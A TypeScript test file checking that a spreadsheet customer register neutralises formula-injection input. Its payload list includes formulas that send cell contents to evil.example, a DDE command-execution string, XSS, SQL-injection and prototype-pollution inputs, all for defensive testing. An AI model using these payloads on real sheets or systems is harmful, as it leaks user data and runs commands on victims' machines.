import type { Host } from '../../local/host';
import { makeTab } from './support/lists';
import { call, expectOk, registerHost, requestId } from './support/register';
import {
  address,
  auditOf,
  columnOf,
  liveFormulas,
  openReview,
  rowsOf,
  tabOf,
  typeUnseen,
  valueAt,
} from './support/sheet';

/** Payloads that a sheet, a CSV reader or a page might act on, and texts that make trouble by being texts. */
const NAUGHTY: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil.example?leak="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
  "=cmd|'/C calc'!A0",
  '＝1+1',
  '\t=1+1',
  ' =1+1',
  "'=1+1",
  '=IMAGE("http://evil.example/x.png")',
  '={1;2}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE customers;--",
  '${7*7}',
  'undefined',
  'null',
  'NaN',
  'true',
  '1E+09',
  '1/2',
  '007',
  '1,000.00',
  '#REF!',
  'Ω≈ç√∫˜µ≤',
  '田中さんにあげて下さい',
  'הָיְתָהtestالصفحات التّحول',
  '👩‍👩‍👧‍👦 🇨🇳',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
  '\u202etest\u202c',
  '__proto__',
  'constructor',
  'a; b; c',
  'line one  two',
];

/** Those that a sheet would take for formulas, typed where nothing guards them. */
const LIVE = NAUGHTY.slice(0, 13);

const TEXT_FIELDS = ['notes', 'title', 'occupation', 'preferences', 'interests', 'needs', 'channel'] as const;

let base: Host;

beforeAll(() => {
  base = registerHost();
  expectOk(base.callFunction('apiInstallAutomation', { requestId: requestId() }));
  makeTab(base, 'Customers to begin with', [['Name'], ...NAUGHTY.map((_, index) => [`Customer ${String(index)}`])]);
  expectOk(base.callFunction('apiAdoptList', { requestId: requestId(), tab: 'Customers to begin with' }));
});

const verified = (host: Host): unknown => call(host, 'apiVerifyAudit', {})['verified'];

/** Text as it may be kept: forms, spaces and invisible marks may be put into standard form. */
const bare = (text: string | number | boolean | null | undefined): string =>
  String(text ?? '')
    .normalize('NFKC')
    .replace(/[\s\u200b-\u200f\u202a-\u202e\u2060-\u2069'’]/g, '');

/** All texts that the register keeps about its records. */
function kept(host: Host): string {
  const rows = ['customers', 'review', 'import', 'audit'].flatMap((tab) =>
    rowsOf(host, tab).map((row) => JSON.stringify(row)),
  );
  return bare(rows.join('\n').replace(/\\+/g, ''));
}

describe('texts that look like formulas', () => {
  it('saved through the sidebar are kept as texts in text columns, as names they are kept or refused', () => {
    const host = base.copy();
    for (let at = 0; at < NAUGHTY.length; at += TEXT_FIELDS.length) {
      const texts = TEXT_FIELDS.map((field, index) => [field, NAUGHTY[at + index] ?? ''] as const);
      const fields = { name: `N ${String(at)}`, ...Object.fromEntries(texts) };
      expectOk(host.callFunction('apiSaveCustomer', { requestId: requestId(), fields }));
    }
    for (const name of LIVE)
      call(host, 'apiSaveCustomer', { requestId: requestId(), fields: { name }, acceptDuplicates: true });
    expect(liveFormulas(host)).toEqual([]);
    const rows = rowsOf(host, 'customers').filter((row) => String(row['name']).startsWith('N '));
    const saved = rows.flatMap((row) => TEXT_FIELDS.map((field) => bare(row[field]))).slice(0, NAUGHTY.length);
    expect(saved).toEqual(NAUGHTY.map(bare));
    expect(verified(host)).toBe(true);
  });

  it.each(['notes', 'name'])('typed into %s are texts after the trigger ran', (field) => {
    const host = base.copy();
    LIVE.forEach((text, index) => host.edit(address(host, 'customers', index + 2, field), text));
    expect(host.failures).toEqual([]);
    expect(liveFormulas(host)).toEqual([]);
    expect(
      LIVE.filter((text) => !kept(host).includes(bare(JSON.stringify(text).slice(1, -1).replace(/\\+/g, '')))),
    ).toEqual([]);
    expect(verified(host)).toBe(true);
  });

  it('pasted in one block are texts after the trigger ran', () => {
    const host = base.copy();
    const clean = NAUGHTY.map((text) => text.replace(/[\t\n]/g, ' '));
    host.paste(address(host, 'customers', 2, 'notes'), clean.join('\n'));
    expect(host.failures).toEqual([]);
    expect(liveFormulas(host)).toEqual([]);
    expect(rowsOf(host, 'customers').map((row) => bare(row['notes']))).toEqual(clean.map(bare));
  });

  it('typed where no trigger saw them are texts after the sweep', () => {
    const host = base.copy();
    NAUGHTY.forEach((text, index) => {
      typeUnseen(host, 'customers', index + 2, 'notes', text);
    });
    host.advanceTo(host.now + 2 * 3_600_000);
    expect(host.failures).toEqual([]);
    expect(liveFormulas(host)).toEqual([]);
    expect(rowsOf(host, 'customers').map((row) => bare(row['notes']))).toEqual(NAUGHTY.map(bare));
  });

  it('typed over a whole row leave no live formula in any column of ours', () => {
    const host = base.copy();
    const width = tabOf(host, 'customers').columnCount;
    host.paste('Customers!B2', Array.from({ length: width - 1 }, () => '=1+1').join('\t'));
    host.advanceTo(host.now + 2 * 3_600_000);
    expect(host.failures).toEqual([]);
    expect(liveFormulas(host)).toEqual([]);
    expect(openReview(host).length).toBeGreaterThan(10);
    expect(verified(host)).toBe(true);
  });

  it('adopted from a list are texts, every one of them found again', () => {
    const host = base.copy();
    const rows = NAUGHTY.map((text, index) => [
      `Person ${String(index)}`,
      `13${String(500000000 + index)}`,
      text,
      text,
    ]);
    makeTab(host, 'List', [['Name', 'Mobile', 'Notes', 'Our own'], ...rows]);
    const before = liveFormulas(host);
    const reply = expectOk(host.callFunction('apiAdoptList', { requestId: requestId(), tab: 'List' }));
    expect(reply).toMatchObject({ result: { read: NAUGHTY.length, held: 0, taken: NAUGHTY.length } });
    expect(liveFormulas(host)).toEqual(before);
    const taken = rowsOf(host, 'customers').slice(NAUGHTY.length);
    expect(taken.map((row) => bare(row['notes']))).toEqual(NAUGHTY.map(bare));
  });
});

describe('a formula', () => {
  it('typed into a text column becomes its own text, with a line in Review', () => {
    const host = base.copy();
    host.edit(address(host, 'customers', 2, 'notes'), '=HYPERLINK("http://evil.example","x")');
    host.edit(address(host, 'customers', 2, 'name'), 'Innocent');
    expect(valueAt(host, 'customers', 2, 'notes')).toBe('=HYPERLINK("http://evil.example","x")');
    expect(liveFormulas(host)).toEqual([]);
  });

  it('typed into a number column becomes what it showed, or stays as its text where it showed nothing', () => {
    const host = base.copy();
    const id = String(valueAt(host, 'customers', 2, 'id'));
    host.paste(address(host, 'purchases', 2, 'customerId'), `${id}\t2026-09-01\t\tTea\t\t2\t\t30\tCNY`);
    host.edit(address(host, 'purchases', 2, 'amount'), '=15*4');
    expect(liveFormulas(host)).toEqual([]);
    expect([60, '=15*4']).toContain(valueAt(host, 'purchases', 2, 'amount'));
    expect(auditOf(host).at(-1)?.payload.before).toMatchObject({ amount: 30 });
  });

  it("in a column of the team's own stays a formula", () => {
    const host = base.copy();
    host.doByHand('rename tab Customers to Customers');
    const width = tabOf(host, 'customers').columnCount;
    host.register.sheets[host.register.sheets.indexOf(tabOf(host, 'customers'))] = {
      ...tabOf(host, 'customers'),
      columnCount: width + 1,
    };
    const letters = String.fromCharCode(64 + Math.floor(width / 26)) + String.fromCharCode(65 + (width % 26));
    host.edit(`Customers!${letters}1`, 'Ours');
    host.edit(`Customers!${letters}2`, '=1+1');
    host.edit(address(host, 'customers', 2, 'notes'), 'x');
    host.advanceTo(host.now + 2 * 3_600_000);
    expect(liveFormulas(host)).toEqual([`Customers!2:${String(width + 1)} =1+1`]);
    expect(columnOf(host, 'customers', 'notes')).toBeLessThan(width);
  });
});
